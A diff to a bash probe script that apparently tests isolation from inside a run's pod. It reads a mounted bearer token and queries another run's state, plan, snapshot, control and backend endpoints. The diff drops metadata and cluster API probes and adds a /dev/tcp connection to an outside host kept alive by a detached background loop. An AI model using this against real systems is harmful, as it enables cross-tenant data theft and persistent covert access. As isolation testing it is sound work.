@@ -1,6 +1,7 @@
 # What a program finds that an engine's plugin starts in a run's pod, as an object of JSON. Arguments: the run API, another's run,
-# address and port of what the other's runner serves to its own engine, and a number that names a process which is to outlive the run.
-PATH=/usr/bin:/bin api=$1 run=$2 backend=$3 mark=$4
+# address and port of what the other's runner serves to its own engine, and of somebody outside whom a process keeps calling that is
+# to outlive the engine.
+PATH=/usr/bin:/bin api=$1 run=$2 backend=$3 outside=$4
 shopt -s nullglob
 found=()
 tell() { found+=("\"$1\":\"${*:2}\""); }
@@ -38,14 +39,12 @@ while read -r name value; do
 done </proc/self/status
 
 token=$(</var/run/landfall/token)
-taken='{"tokenSha256": "0000000000000000000000000000000000000000000000000000000000000000"}'
-tell attach "$(answers --header "Authorization: Bearer $token" --data "$taken" "$api/runs/$run/attach")"
 for path in state artifacts/plan-json artifacts/snapshot control; do
     tell "$path" "$(answers --header "Authorization: Bearer $token" "$api/runs/$run/$path")"
 done
 tell backend "$(answers "http://$backend/state")"
-tell metadata "$(answers http://169.254.169.254/latest/meta-data/)"
-tell cluster "$(answers --header "Authorization: Bearer $token" https://10.0.0.1/api)"
 
-setsid sleep "$mark" </dev/null >/dev/null 2>&1 &
+exec 4<>"/dev/tcp/${outside/://}"
+echo begun >&4
+setsid bash -c 'while read -r _ <&4; do :; done' </dev/null >/dev/null 2>&1 &
 (IFS=,; echo "{${found[*]}}")
